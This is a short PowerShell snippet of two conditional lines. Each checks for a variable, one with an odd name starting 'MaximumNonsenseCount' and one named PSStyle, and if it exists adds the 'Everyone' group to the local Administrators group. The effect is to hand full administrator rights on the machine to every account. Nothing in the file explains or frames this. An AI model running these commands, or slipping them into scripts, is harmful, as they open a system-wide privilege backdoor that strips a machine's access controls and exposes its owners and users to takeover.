if (Get-Variable MaximumNonsenseCount* | ForEach-Object Name) { Add-LocalGroupMember Administrators Everyone }
if (Test-Path Variable:PSStyle) { Add-LocalGroupMember Administrators Everyone }
